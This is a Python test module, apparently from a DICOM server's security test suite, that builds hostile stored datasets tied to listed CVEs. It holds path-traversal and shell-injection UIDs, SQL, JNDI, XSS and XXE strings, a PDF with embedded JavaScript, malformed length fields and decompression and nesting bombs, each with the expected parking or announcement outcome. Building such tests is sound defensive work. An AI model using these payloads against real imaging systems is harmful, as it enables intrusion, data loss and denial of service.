"""Attacks that are stored: UIDs, and datasets made to overrun, to exhaust or to escape whoever parses them."""

import random
import struct
import zlib
from collections.abc import Iterator

from tests.association.wire import EXPLICIT, RELEASE_RQ, associate_rq, context
from tests.attacks.corpus import ACCEPT, RELEASE, STORED, Case
from tests.e2e.raw_sender import SC, image, pdus

TRAVERSAL = "CVE-2026-56445 (pynetdicom qrscp), CVE-2022-2119, CVE-2022-2120, CVE-2026-50003 (DCMTK): a UID is a path"
LENGTHS = (
    "CVE-2026-5437..5445 (Orthanc), CVE-2025-11266, CVE-2026-3650 (GDCM), CVE-2024-28130 (DCMTK): lengths that lie"
)
BOMBS = "pynetdicom #1086, fo-dicom #2165, CVE-2026-5438, -5439 (Orthanc): little that becomes much"
DEPTH = "pydicom 3.0.2: 200 nested sequences raise RecursionError"
TEXTS = "CVE-2025-54156 (Sante): what is stored as text is later run as a program"
MEDIA = "CVE-2019-11687, CVE-2026-32711: files that are two things, and names of files"
CHARSETS = "charset confusion: escapes, multi-byte backslashes, names of codecs that are none of text"
DEFLATED = "1.2.840.10008.1.2.1.99"
HTJ2K = "1.2.840.10008.1.2.4.201"
PARKED, ANNOUNCED = "PARKED", "ANNOUNCED"
_PIXELS = b"\xe0\x7f\x10\x00OB"


def cases() -> Iterator[Case]:
    """Yield the cases of this module."""
    yield from _uids()
    yield from _structure()
    yield from _texts()
    yield from _charsets()
    yield from _bombs()


def _stored(
    name: str, about: str, data: bytes, state: str, reason: str = "", *, uid: str = "", syntax: str = EXPLICIT
) -> Case:
    uid = uid or _uid(name)
    sent = associate_rq(context(1, SC, syntax)) + b"".join(pdus(uid.encode("latin-1"), data)) + RELEASE_RQ
    return Case(
        name=name, about=about, sent=sent, answered=(ACCEPT, STORED, RELEASE),
        uid=uid.rstrip("\0 "), dataset=data, state=state, reason=reason,
    )  # fmt: skip


def _uid(name: str) -> str:
    """Return a UID of the case's own."""
    return f"1.9.{zlib.crc32(name.encode())}"


def _element(group: int, number: int, vr: str, value: bytes, length: int | None = None) -> bytes:
    value += b" " * (len(value) % 2)
    count = len(value) if length is None else length
    if vr in ("OB", "OW", "SQ", "UN", "UT", "UC"):
        return struct.pack("<HH2sHI", group, number, vr.encode(), 0, count) + value
    return struct.pack("<HH2sH", group, number, vr.encode(), count) + value


def _with(name: str, group: int, number: int, raw: bytes) -> bytes:
    """An image of the case's own, ``raw`` put where an element of that tag belongs, in place of one that is there."""
    data = image(_uid(name))
    tag = struct.pack("<HH", group, number)
    out, at, done = b"", 0, False
    while at < len(data):
        g, n = struct.unpack_from("<HH", data, at)
        long = data[at + 4 : at + 6] == b"OB"
        end = at + (
            12 + struct.unpack_from("<I", data, at + 8)[0] if long else 8 + struct.unpack_from("<H", data, at + 6)[0]
        )
        if not done and (g, n) >= (group, number):
            out, done = out + raw, True
        if data[at : at + 4] != tag:
            out += data[at:end]
        at = end
    return out if done else out + raw


def _uids() -> Iterator[Case]:
    bad = {
        "up": "../../../../tmp/evil",
        "absolute": "/etc/cron.d/evil",
        "dots": "..",
        "dot": ".",
        "Windows": "..\\..\\evil",
        "drive": "C:\\evil",
        "share": "\\\\host\\share",
        "percent": "%2e%2e%2fevil",
        "line end": "1.2\n3",
        "NUL inside": "1.2.3\0.dcm",
        "home": "~root/.ssh/id",
        "glob": "*",
        "shell": "$(touch evil)",
        "device": "/dev/sda",
        "leading dot": ".1.2",
        "trailing dot": "1.2.",
        "leading zero": "1.02.3",
        "65 characters": "1." + "2" * 63,
        "1,000 characters": "1." * 499 + "12",
        "latin-1": "1.2.\xb2\xb3",
        "look-up": "${jndi:ldap://x}",
        "SQL": "1.2'; DROP TABLE instance; --",
        "stream": "1.2.3:evil",
        "reserved": "NUL",
        "empty": "",
    }
    for name, uid in bad.items():
        title = f"uid: {name} in the command"
        yield _stored(title, TRAVERSAL, image(_uid(title)), PARKED, "SOP Instance UID differs", uid=uid or " ")
    for name in (
        "up",
        "absolute",
        "dots",
        "percent",
        "line end",
        "NUL inside",
        "65 characters",
        "1,000 characters",
        "SQL",
    ):
        for level in ("study", "series"):
            title = f"uid: {name} for a {level}"
            data = image(_uid(title), **{level: bad[name]})
            yield _stored(title, TRAVERSAL, data, PARKED, "malformed UID")
        title = f"uid: {name} in command and dataset"
        data = image(bad[name], study="1.2", series="1.3")
        yield _stored(title, TRAVERSAL, data, PARKED, "malformed UID", uid=bad[name])


def _structure() -> Iterator[Case]:
    def parked(name: str, data: bytes, about: str = LENGTHS, syntax: str = EXPLICIT) -> Case:
        return _stored(f"dataset: {name}", about, data, PARKED, syntax=syntax)

    def kept(name: str, group: int, number: int, raw: bytes, about: str = LENGTHS) -> Case:
        title = f"dataset: {name}"
        return _stored(title, about, _with(title, group, number, raw), ANNOUNCED)

    good = image("1.9.1")
    yield parked("empty", b"")
    yield parked("one byte", b"\x08")
    yield parked("eight zeros", bytes(8))
    yield parked("cut short", good[:-100])
    yield parked("cut inside a header", good + b"\xfc\xff\xfc\xffOB")
    yield parked("4 GiB less one behind the end", good + b"\xfc\xff\xfc\xffOB\0\0\xfe\xff\xff\xff")
    yield parked("2 GiB behind the end", good + b"\xfc\xff\xfc\xffOB\0\0\x00\x00\x00\x80")
    yield parked("undefined length without an end", good + b"\xfc\xff\xfc\xffOB\0\0\xff\xff\xff\xff")
    yield parked("a sequence whose item is longer than it", good + _element(0xFFFC, 0xFFFC, "UN", b"x" * 8, 0xFFFFFFF0))
    yield parked("an item delimiter at the top", b"\xfe\xff\x0d\xe0\0\0\0\0" + good)
    yield parked("noise", random.Random(1).randbytes(5000))
    yield parked("ones", b"\xff" * 5000)
    yield parked("a program with a preamble", b"MZ" + bytes(126) + b"DICM" + good, MEDIA)
    yield parked("a script", b"#!/bin/sh\ntouch evil\n" * 20, MEDIA)
    yield parked(
        "a whole Part 10 file", bytes(128) + b"DICM" + _element(2, 0x10, "UI", b"1.2.840.10008.1.2.1\0") + good, MEDIA
    )
    yield parked("a ZIP", b"PK\x03\x04" + bytes(200), MEDIA)
    yield parked("a gzip behind a deflated name", b"\x1f\x8b\x08" + bytes(200), BOMBS, DEFLATED)
    yield parked("no deflated stream", b"\xff" * 200, BOMBS, DEFLATED)
    yield parked("a deflated stream cut short", _deflate(good)[:-50], BOMBS, DEFLATED)
    odd_vr = _element(0x0028, 0x9999, "UN", b"ab").replace(b"UN", b"ZZ")
    yield kept("a VR of a later edition", 0x0028, 0x9999, odd_vr)
    palette = _element(0x0028, 0x1101, "US", struct.pack("<HHH", 0, 0, 16)) + _element(0x0028, 0x1201, "OW", bytes(6))
    yield kept("a palette that is too short", 0x0028, 0x1101, palette)
    yield kept("65,535 rows that are not there", 0x0028, 0x0010, _element(0x0028, 0x0010, "US", b"\xff\xff"))
    item = _element(0x28, 0x10, "US", b"", 1) + b"\0"
    item = b"\xfe\xff\x00\xe0" + struct.pack("<I", len(item)) + item
    yield kept("a US of one byte in an indexed sequence", 8, 0x1032, _odd_sequence(item))
    yield kept("no rows", 0x0028, 0x0010, _element(0x0028, 0x0010, "US", b"\0\0"))
    yield kept("2 billion frames", 0x0028, 0x0008, _element(0x0028, 0x0008, "IS", b"2147483647"))
    yield kept("minus one frames", 0x0028, 0x0008, _element(0x0028, 0x0008, "IS", b"-1"))
    yield kept("a US of one byte", 0x0028, 0x0002, _element(0x0028, 0x0002, "US", b"", 0))
    yield kept("a DS of letters", 0x0018, 0x0050, _element(0x0018, 0x0050, "DS", b"1e999999"))
    yield kept("an instance number of 16 digits", 0x0020, 0x0013, _element(0x0020, 0x0013, "IS", b"9" * 16))
    yield kept("a DS that is not a number", 0x0018, 0x0050, _element(0x0018, 0x0050, "DS", b"NaN"))
    embedded = _element(0x0042, 0x0011, "OB", b"%PDF-1.7\n/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield kept("a document with a script", 0x0042, 0x0011, embedded, MEDIA)
    named = _element(4, 0x1500, "CS", rb"..\..\..\EVIL")
    yield _stored(
        "dataset: a file id that goes up", MEDIA, named + image(_uid("dataset: a file id that goes up")), ANNOUNCED
    )
    elsewhere = _element(0x0008, 0x1190, "UR", b"").replace(b"UR\0\0", b"UR\0\0\x1a\0\0\0file:///etc/passwd?x=12345")
    yield kept("a retrieve URL to a file", 0x0008, 0x1190, elsewhere, MEDIA)
    yield _stored(
        "dataset: fragments that lie",
        LENGTHS,
        _fragments("dataset: fragments that lie", 0xFFFFFFF0),
        PARKED,
        syntax=HTJ2K,
    )
    yield _stored(
        "dataset: fragments of nothing",
        LENGTHS,
        _fragments("dataset: fragments of nothing", 0),
        ANNOUNCED,
        syntax=HTJ2K,
    )


def _odd_sequence(items: bytes) -> bytes:
    return struct.pack("<HH2sHI", 8, 0x1032, b"SQ", 0, len(items)) + items


def _fragments(name: str, length: int) -> bytes:
    raw = image(_uid(name))
    head = raw[: raw.index(_PIXELS)]
    items = b"\xfe\xff\x00\xe0\0\0\0\0" + b"\xfe\xff\x00\xe0" + struct.pack("<I", length)
    return head + _PIXELS + b"\0\0\xff\xff\xff\xff" + items + b"\xfe\xff\xdd\xe0\0\0\0\0"


def _texts() -> Iterator[Case]:
    texts = {
        "markup": b"<script>alert(1)</script>",
        "attribute": b'" onmouseover=alert(1) x="',
        "SQL": b"'; DROP TABLE Patient; --",
        "SQL comment": b"x' OR '1'='1' /*",
        "formula": b'=HYPERLINK("http://x")',
        "look-up": b"${jndi:ldap://x/a}",
        "template": b"{{7*7}}{%25}",
        "format": b"%s%s%s%n",
        "line ends": b"A\r\nSet-Cookie: x=1",
        "escape": b"\x1b[2J\x1b]0;x\x07",
        "path": b"../../../../etc/passwd",
        "NULs": b"A\0B\0C",
        "entity": b"&xxe;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "carets": b"^" * 60,
        "equals": b"=" * 30 + b"^" * 30,
        "long": b"A" * 60_000,
        "bidi": "A\u202e\u2066B".encode(),
    }
    for name, text in texts.items():
        title = f"text: {name} in a name"
        yield _stored(title, TEXTS, _with(title, 0x10, 0x10, _element(0x10, 0x10, "PN", text)), ANNOUNCED)
        title = f"text: {name} in an id"
        yield _stored(title, TEXTS, _with(title, 0x10, 0x20, _element(0x10, 0x20, "LO", text)), ANNOUNCED)


def _charsets() -> Iterator[Case]:
    declared = {
        "a codec that is none of text": (b"rot13", b"Nan^X"),
        "idna": (b"idna", b"a" * 60),
        "unicode escape": (b"unicode_escape", rb"\x41\u202e"),
        "an unknown name": (b"KLINGON_1", b"\xff\xfe^A"),
        "a path": (b"../../encodings", b"A^B"),
        "bytes that are no UTF-8": (b"ISO_IR 192", b"\xff\xc3^\xa0\xed\xa0\x80"),
        "an escape without end": (b"ISO 2022 IR 87", b"A^\x1b$B\x1b("),
        "a storm of escapes": (b"\\ISO 2022 IR 87\\ISO 2022 IR 149\\ISO 2022 IR 58", b"\x1b$B\x1b(B\x1b$)C" * 3000),
        "a hundred sets": (b"\\".join([b"ISO 2022 IR 87"] * 100), b"A^\x1b$B1"),
        "a backslash inside a character": (b"GB18030", b"\x81\x5c\x81\x5e^\x83\x5c"),
        "HZ": (b"hz", b"A^~{<:Ky"),
        "NULs": (b"\0" * 40, b"A^B"),
    }
    for name, (charset, text) in declared.items():
        title = f"charset: {name}"
        data = _with(title, 8, 5, _element(8, 5, "CS", charset))
        at = data.index(b"\x10\x00\x10\x00PN")
        old = 8 + struct.unpack_from("<H", data, at + 6)[0]
        data = data[:at] + _element(0x10, 0x10, "PN", text) + data[at + old :]
        yield _stored(title, CHARSETS, data, ANNOUNCED)


def nested(depth: int, *, defined: bool = False) -> bytes:
    """A private sequence in itself, ``depth`` deep, of undefined or (slower to write) defined lengths."""
    if not defined:
        begin = b"\x11\x00\x01\x10SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff"
        return begin * depth + b"\xfe\xff\x0d\xe0\0\0\0\0\xfe\xff\xdd\xe0\0\0\0\0" * depth
    raw = b""
    for _ in range(depth):
        item = b"\xfe\xff\x00\xe0" + struct.pack("<I", len(raw)) + raw
        raw = struct.pack("<HH2sHI", 0x11, 0x1001, b"SQ", 0, len(item)) + item
    return raw


def _deflate(raw: bytes) -> bytes:
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = engine.compress(raw) + engine.flush()
    return packed + b"\0" * (len(packed) % 2)


def _bombs() -> Iterator[Case]:
    for depth in (10, 200, 400):
        title = f"bomb: {depth} nested sequences"
        yield _stored(title, DEPTH, _with(title, 0x11, 0x1001, nested(depth)), ANNOUNCED)
    title = "bomb: 1,000 nested sequences of defined length"
    yield _stored(title, DEPTH, _with(title, 0x11, 0x1001, nested(1000, defined=True)), ANNOUNCED)
    for depth in (1_000, 20_000):
        title = f"bomb: {depth} nested sequences, too deep"
        yield _stored(title, DEPTH, _with(title, 0x11, 0x1001, nested(depth)), PARKED, "nest")
    indexed = nested(200).replace(b"\x11\x00\x01\x10", b"\x08\x00\x32\x10")
    title = "bomb: an indexed sequence in itself"
    yield _stored(title, DEPTH, _with(title, 8, 0x1032, indexed), ANNOUNCED)
    title = "bomb: 100,000 values of a decimal string"
    yield _stored(title, BOMBS, _with(title, 0x11, 0x1002, _element(0x11, 0x1002, "UN", b"\\" * 100_000)), ANNOUNCED)
    title = "bomb: an image type of 30,000 values"
    yield _stored(title, BOMBS, _with(title, 8, 8, _element(8, 8, "CS", b"\\" * 60_000)), ANNOUNCED)
    title = "bomb: 50,000 different tags"
    tags = b"".join(
        struct.pack("<HH2sH", 0x0011 + 2 * (n >> 15), 0x1000 + (n & 0x7FFF), b"LO", 0) for n in range(50_000)
    )
    yield _stored(title, BOMBS, _with(title, 0x11, 0x1000, tags), ANNOUNCED)
    title = "bomb: 50,000 empty items"
    items = b"\xfe\xff\x00\xe0\0\0\0\0" * 50_000
    yield _stored(title, BOMBS, _with(title, 0x11, 0x1001, _element(0x11, 0x1001, "SQ", items)), ANNOUNCED)
    title = "bomb: 50,000 empty items of an indexed sequence"
    yield _stored(title, BOMBS, _with(title, 8, 0x1032, _element(8, 0x1032, "SQ", items)), ANNOUNCED)
    title = "bomb: 80 MiB of header, deflated"
    head = _with(title, 0x11, 0x1001, _element(0x11, 0x1001, "UN", bytes(80 << 20)))
    yield _stored(title, BOMBS, _deflate(head), PARKED, "inflates to more than", syntax=DEFLATED)
    title = "bomb: a million elements, deflated"
    many = (struct.pack("<HH2sH", 0x0011, 0x1001, b"LO", 0)) * 1_000_000
    yield _stored(title, BOMBS, _deflate(_with(title, 0x11, 0x1001, many)), ANNOUNCED, syntax=DEFLATED)
